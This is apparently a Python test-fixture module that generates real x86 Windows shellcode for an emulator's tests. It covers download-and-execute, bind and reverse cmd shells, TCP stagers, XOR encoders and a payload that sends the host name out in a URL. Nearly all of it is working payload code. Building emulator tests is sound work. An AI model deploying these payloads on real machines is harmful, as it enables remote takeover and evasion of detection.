"""Real x86 shellcode for the emulator's tests, assembled with keystone from readable source.

The payloads use the technique of public exploit payloads: walk the PEB to the loaded
modules, walk each export table, hash every name with ROR-13 and compare it with the
wanted API's hash. Nothing here is taken from a payload generator; it is written out so
a reader can see what the emulator is expected to find.
"""

from __future__ import annotations

import struct

from keystone import KS_ARCH_X86, KS_MODE_32, Ks


def ror13(name: str) -> int:
    """The hash the resolver compares: ROR-13 of the running value, plus each byte."""
    h = 0
    for c in name.encode():
        h = ((h >> 13) | (h << 19)) & 0xFFFFFFFF
        h = (h + c) & 0xFFFFFFFF
    return h


#: find_api(hash) -> eax (0: not found): PEB -> Ldr -> load-order modules -> export tables
FIND_API = """
find_api:
    pushad
    mov edi, dword ptr [esp + 0x24]
    mov eax, dword ptr fs:[0x30]
    mov eax, dword ptr [eax + 0x0c]
    add eax, 0x0c
    push eax
    mov eax, dword ptr [eax]
module_loop:
    cmp eax, dword ptr [esp]
    je not_found
    push eax
    mov ebp, dword ptr [eax + 0x18]
    test ebp, ebp
    jz module_next
    mov eax, dword ptr [ebp + 0x3c]
    mov edx, dword ptr [ebp + eax + 0x78]
    test edx, edx
    jz module_next
    add edx, ebp
    mov ecx, dword ptr [edx + 0x18]
    mov ebx, dword ptr [edx + 0x20]
    add ebx, ebp
name_loop:
    jecxz module_next
    dec ecx
    mov esi, dword ptr [ebx + ecx*4]
    add esi, ebp
    push edx
    xor edx, edx
    xor eax, eax
hash_loop:
    lodsb
    test al, al
    jz hashed
    ror edx, 13
    add edx, eax
    jmp hash_loop
hashed:
    cmp edx, edi
    pop edx
    jnz name_loop
    mov ebx, dword ptr [edx + 0x24]
    add ebx, ebp
    movzx ecx, word ptr [ebx + ecx*2]
    mov ebx, dword ptr [edx + 0x1c]
    add ebx, ebp
    mov eax, dword ptr [ebx + ecx*4]
    add eax, ebp
    pop ecx
    jmp done
module_next:
    pop eax
    mov eax, dword ptr [eax]
    jmp module_loop
not_found:
    xor eax, eax
done:
    pop ecx
    mov dword ptr [esp + 0x1c], eax
    popad
    ret 4
"""


def _api(name: str) -> str:
    return f"    push {ror13(name):#x}\n    call find_api\n    call eax\n"


def _string_bytes(*texts: str) -> str:
    data = b"".join(t.encode() + b"\0" for t in texts)
    return "    .byte " + ", ".join(str(b) for b in data) + "\n"


def download_exec(url: str, path: str = "c:\\a.exe") -> str:
    """LoadLibraryA("urlmon"); URLDownloadToFileA(0, url, path, 0, 0); WinExec(path)."""
    return (
        "start:\n    cld\n    jmp get_data\n"
        "back:\n    pop esi\n    jmp main\n"
        "get_data:\n    call back\n" + _string_bytes(url, path) +
        "main:\n"
        "    push 0x00006e6f\n    push 0x6d6c7275\n    push esp\n" + _api("LoadLibraryA") +
        "    mov edi, esi\n    xor eax, eax\n    or ecx, -1\n    repne scasb\n"
        "    xor eax, eax\n    push eax\n    push eax\n    push edi\n    push esi\n"
        "    push eax\n" + _api("URLDownloadToFileA") +
        "    push 0\n    push edi\n" + _api("WinExec") +
        "    push 0\n" + _api("ExitProcess") + FIND_API)


def _sockaddr(port: int, host: str = "0.0.0.0") -> str:
    """Push a sockaddr_in (family 2, port, address); esp points at it."""
    addr = struct.unpack("<I", bytes(int(p) for p in host.split(".")))[0]
    fam_port = 2 | (struct.unpack("<H", struct.pack(">H", port))[0] << 16)
    return (f"    push 0\n    push 0\n    push {addr:#x}\n    push {fam_port:#x}\n"
            "    mov ebx, esp\n")


_SOCKET = (
    "    push 0x00003233\n    push 0x5f327377\n    push esp\n" + _api("LoadLibraryA") +
    "    sub esp, 0x200\n    push esp\n    push 0x202\n" + _api("WSAStartup") +
    "    xor eax, eax\n    push eax\n    push eax\n    push eax\n    push 6\n    push 1\n"
    "    push 2\n" + _api("WSASocketA") + "    mov edi, eax\n")

#: CreateProcessA(0, "cmd", 0, 0, TRUE, 0, 0, 0, &si, &pi) with the socket in edi as stdio
_SHELL = (
    "    push 0x00646d63\n    mov esi, esp\n"
    "    sub esp, 0x54\n    mov edx, esp\n"
    "    push edi\n    push edi\n    push edi\n"  # hStdError, hStdOutput, hStdInput
    "    xor eax, eax\n    push eax\n    push eax\n    push 0x100\n"
    "    push eax\n    push eax\n    push eax\n    push eax\n    push eax\n    push eax\n"
    "    push eax\n    push eax\n    push eax\n    push 0x44\n    mov ecx, esp\n"
    "    push edx\n    push ecx\n    push eax\n    push eax\n    push eax\n    push 1\n"
    "    push eax\n    push eax\n    push esi\n    push eax\n" + _api("CreateProcessA") +
    "    push 0\n" + _api("ExitProcess"))


def bind_shell(port: int = 4444) -> str:
    """WSAStartup, WSASocketA, bind(port), listen, accept, CreateProcessA cmd on the socket."""
    return (
        "start:\n    cld\n    call next\nnext:\n    pop ebp\n" + _SOCKET + _sockaddr(port) +
        "    push 16\n    push ebx\n    push edi\n" + _api("bind") +
        "    push 1\n    push edi\n" + _api("listen") +
        "    push 0\n    push 0\n    push edi\n" + _api("accept") + "    mov edi, eax\n" +
        _SHELL + FIND_API)


def reverse_shell(host: str, port: int) -> str:
    """WSAStartup, WSASocketA, connect(host:port), CreateProcessA cmd on the socket."""
    return (
        "start:\n    cld\n    call next\nnext:\n    pop ebp\n" + _SOCKET +
        _sockaddr(port, host) +
        "    push 16\n    push ebx\n    push edi\n" + _api("connect") + _SHELL + FIND_API)


_READ_STAGE = (
    "    push 0\n    push 4\n    lea esi, [esp-4]\n    push esi\n    push edi\n" +
    _api("recv") + "    mov esi, [esi]\n    and esi, 0xfffff\n    or esi, 1\n"
    "    push 0x40\n    push 0x1000\n    push esi\n    push 0\n" + _api("VirtualAlloc") +
    "    mov ebx, eax\n    push 0\n    push esi\n    push ebx\n    push edi\n" +
    _api("recv") + "    jmp ebx\n")


def reverse_stager(host: str, port: int) -> str:
    """The reverse-TCP stager shape: connect(host:port), recv the stage's 4-byte length,
    VirtualAlloc that much, recv the stage into it and jump there."""
    return (
        "start:\n    cld\n    call next\nnext:\n    pop ebp\n" + _SOCKET +
        _sockaddr(port, host) +
        "    push 16\n    push ebx\n    push edi\n" + _api("connect") + _READ_STAGE + FIND_API)


def bind_stager(port: int) -> str:
    """The bind-TCP stager shape: bind(port), listen, accept, then read a stage as
    reverse_stager does, from the accepted socket."""
    return (
        "start:\n    cld\n    call next\nnext:\n    pop ebp\n" + _SOCKET + _sockaddr(port) +
        "    push 16\n    push ebx\n    push edi\n" + _api("bind") +
        "    push 1\n    push edi\n" + _api("listen") +
        "    push 0\n    push 0\n    push edi\n" + _api("accept") + "    mov edi, eax\n" +
        _READ_STAGE + FIND_API)


def infinite_loop() -> str:
    """A GetPC, then a loop that never ends and calls nothing."""
    return "start:\n    call next\nnext:\n    pop eax\nspin:\n    inc ecx\n    jmp spin\n"


def api_flood() -> str:
    """A GetPC, then GetTickCount called for ever: only max_api_calls stops it."""
    return ("start:\n    cld\n    call next\nnext:\n    pop ebp\nagain:\n" +
            _api("GetTickCount") + "    jmp again\n" + FIND_API)


def assemble(source: str) -> bytes:
    encoding, _count = Ks(KS_ARCH_X86, KS_MODE_32).asm(source)
    return bytes(encoding)


def xor_fnstenv(payload: bytes, key: int = 0x5A) -> bytes:
    """`payload` XOR-encoded behind a decoder whose GetPC is fldz + fnstenv [esp-0xc]."""
    stub = assemble(
        "    fldz\n"
        "    xor ecx, ecx\n"
        f"    mov cx, {len(payload)}\n"
        "    fnstenv [esp - 0x0c]\n"
        "    pop ebx\n"
        "    add ebx, 0x16\n"  # fldz is at +0: 0x16 = 22, the stub's length
        "decode:\n"
        f"    xor byte ptr [ebx], {key:#x}\n"
        "    inc ebx\n"
        "    loop decode\n")
    assert len(stub) == 22, len(stub)
    return stub + bytes(b ^ key for b in payload)


def xor_jmp_call_pop(payload: bytes, key: int = 0x3C) -> bytes:
    """`payload` XOR-encoded behind a jmp-call-pop decoder."""
    stub = assemble(
        "    jmp getpc\n"
        "start:\n"
        "    pop esi\n"
        "    xor ecx, ecx\n"
        f"    mov cx, {len(payload)}\n"
        "decode:\n"
        f"    xor byte ptr [esi + ecx - 1], {key:#x}\n"
        "    loop decode\n"
        "    jmp esi\n"
        "getpc:\n"
        "    call start\n")
    return stub + bytes(b ^ key for b in payload)


def url_flood(url: str = "http://203.0.113.9/00000") -> str:
    """URLDownloadToFileA for ever, the URL's trailing decimal counter bumped each time:
    a new offer per call unless the findings are capped."""
    return (
        "start:\n    cld\n    jmp get_data\nback:\n    pop esi\n    jmp main\n"
        "get_data:\n    call back\n" + _string_bytes(url, "c:\\a.exe") +
        "main:\n    push 0x00006e6f\n    push 0x6d6c7275\n    push esp\n" + _api("LoadLibraryA") +
        f"    push {ror13('URLDownloadToFileA'):#x}\n    call find_api\n    mov ebx, eax\n"
        "    mov edi, esi\n    xor eax, eax\n    or ecx, -1\n    repne scasb\n"
        "again:\n    xor eax, eax\n    push eax\n    push eax\n    push edi\n    push esi\n"
        "    push eax\n    call ebx\n    lea edx, [edi - 2]\n"
        "bump:\n    inc byte ptr [edx]\n    cmp byte ptr [edx], 0x3a\n    jne again\n"
        "    mov byte ptr [edx], 0x30\n    dec edx\n    jmp bump\n" + FIND_API)


def write_flood(size: int = 0x100000) -> str:
    """VirtualAlloc(size), CreateFileA("c:\\x"), then WriteFile(size bytes) for ever: the
    emulator keeps what is written, so memory grows by `size` a call."""
    return (
        "start:\n    cld\n    call next\nnext:\n    pop ebp\n"
        f"    push 0x40\n    push 0x3000\n    push {size:#x}\n    push 0\n" +
        _api("VirtualAlloc") + "    mov esi, eax\n    push 0\n    push 0x785c3a63\n"
        "    mov edi, esp\n    push 0\n    push 0x80\n    push 2\n    push 0\n    push 0\n"
        "    push 0x40000000\n    push edi\n" + _api("CreateFileA") + "    mov ebx, eax\n"
        f"    push {ror13('WriteFile'):#x}\n    call find_api\n    mov ebp, eax\n"
        "    sub esp, 8\n    mov edi, esp\n"
        f"again:\n    push 0\n    push edi\n    push {size:#x}\n    push esi\n    push ebx\n"
        "    call ebp\n    jmp again\n" + FIND_API)


def computer_name_url() -> str:
    """GetComputerNameA into a buffer that starts "http://", then URLDownloadToFileA of
    it: what the emulated machine calls itself reaches a URL the shellcode fetches."""
    return (
        "start:\n    cld\n    call next\nnext:\n    pop ebp\n"
        "    push 0x00006e6f\n    push 0x6d6c7275\n    push esp\n" + _api("LoadLibraryA") +
        "    sub esp, 0x100\n    mov esi, esp\n"
        "    mov dword ptr [esi], 0x70747468\n    mov dword ptr [esi + 4], 0x002f2f3a\n"
        "    push 0x40\n    mov eax, esp\n    push eax\n    lea eax, [esi + 7]\n    push eax\n" +
        _api("GetComputerNameA") +
        "    push 0\n    push 0x615c3a63\n    mov edi, esp\n"
        "    xor eax, eax\n    push eax\n    push eax\n    push edi\n    push esi\n"
        "    push eax\n" + _api("URLDownloadToFileA") +
        "    push 0\n" + _api("ExitProcess") + FIND_API)
